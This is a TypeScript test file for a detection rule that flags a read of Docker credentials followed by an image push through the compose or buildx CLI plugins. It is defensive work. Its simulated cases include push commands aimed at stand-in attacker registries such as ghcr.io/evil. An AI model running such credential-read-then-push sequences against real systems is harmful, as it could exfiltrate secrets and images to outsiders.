/**
 * Red-team review of pushes made through docker's CLI plugins: `docker compose push` makes the docker CLI
 * fork and exec `/usr/libexec/docker/cli-plugins/docker-compose compose push` (the plugin's name as its
 * first argument), and that child is the process that connects to the registry. Each attack, from Tetragon
 * and from Falco events, is one alert: not one from the parent and one from the child, and not none.
 */
import { describe, expect, it } from 'vitest';
import { type Proc, run, Scenario } from './builder.js';

const IP = '140.82.121.34';
type Source = 'tetragon' | 'falco';

interface Shape {
  rule: string;
  tool: string;
  destination: string | null;
  remote: string | null;
}

function shapes(alerts: ReturnType<typeof run>['alerts']): Shape[] {
  return alerts.map((a) => ({
    rule: a.rule,
    tool: a.push.tool,
    destination: a.push.destination,
    remote: a.push.remote,
  }));
}

/**
 * How the plugin is started: by a `docker` parent (`docker`), one that also connects (`docker-connects`), one
 * whose exec no sensor showed (`unseen-docker`: the child's event names it as its parent), or by its full
 * path from the shell (`alone`).
 */
type Start = 'docker' | 'docker-connects' | 'unseen-docker' | 'alone';

/** A credential read, then the plugin `PLUGIN ARGS` started as `start` says, which connects and sends. */
function pushThrough(plugin: string, args: string, source: Source, start: Start): Shape[] {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'job-1', name: 'job' });
  const sh = s.init(c);
  s.read(sh, '/root/.docker/config.json', 180).wait(2_000);
  let docker: Proc | null = null;
  if (start === 'docker' || start === 'docker-connects') {
    docker = s.exec(c, '/usr/bin/docker', args, { parent: sh });
    s.wait(30);
    if (start === 'docker-connects') s.connect(docker, IP, 443).wait(5);
  }
  const unseen = start === 'unseen-docker' ? { parentBinary: '/usr/bin/docker', parentArgs: args } : {};
  const child = s.exec(c, plugin, args, { parent: docker ?? sh, ...unseen });
  s.wait(40)
    .connect(child, IP, 443)
    .wait(10)
    .send(child, IP, 443, 64 * 1024)
    .wait(300)
    .exit(child);
  if (docker !== null) s.wait(5).exit(docker);
  s.wait(1_000);
  return shapes(run(s.events).alerts);
}

const COMPOSE = '/usr/libexec/docker/cli-plugins/docker-compose';
const BUILDX = '/root/.docker/cli-plugins/docker-buildx';
const one = (tool: string, destination: string, remote: string | null) => [
  { rule: 'sensitive-read-then-push', tool, destination, remote },
];

const cases: Array<[string, string, ReturnType<typeof one>]> = [
  ['compose push', COMPOSE, one('docker', `${IP}:443`, null)],
  ['compose -f ci.yml push', COMPOSE, one('docker', `${IP}:443`, null)],
  ['compose build --push', COMPOSE, one('docker', `${IP}:443`, null)],
  ['compose publish ghcr.io/evil/app:1', COMPOSE, one('docker', 'ghcr.io', 'ghcr.io/evil/app:1')],
  ['compose alpha publish ghcr.io/evil/app:1', COMPOSE, one('docker', 'ghcr.io', 'ghcr.io/evil/app:1')],
  ['buildx build --push -t ghcr.io/evil/x:1 .', BUILDX, one('docker', 'ghcr.io', 'ghcr.io/evil/x:1')],
  ['buildx bake --push', BUILDX, one('docker', `${IP}:443`, null)],
  [
    'buildx imagetools create -t ghcr.io/evil/x:1 ghcr.io/acme/a:1',
    BUILDX,
    one('docker', 'ghcr.io', 'ghcr.io/evil/x:1'),
  ],
];

describe('pushes through docker CLI plugins', () => {
  const starts: Array<[Start, string]> = [
    ['docker', 'the docker parent and its plugin child are one push'],
    ['docker-connects', 'the docker parent connecting too is still one push'],
    ['alone', 'the plugin run by its full path with its name first is a push'],
    ['unseen-docker', 'the plugin child of a docker CLI no sensor showed is a push'],
  ];
  for (const source of ['tetragon', 'falco'] as const)
    for (const [start, title] of starts)
      it(`${title} (${source})`, () => {
        for (const [args, plugin, expected] of cases)
          expect(pushThrough(plugin, args, source, start), `${start}: ${plugin} ${args}`).toEqual(expected);
      });
});
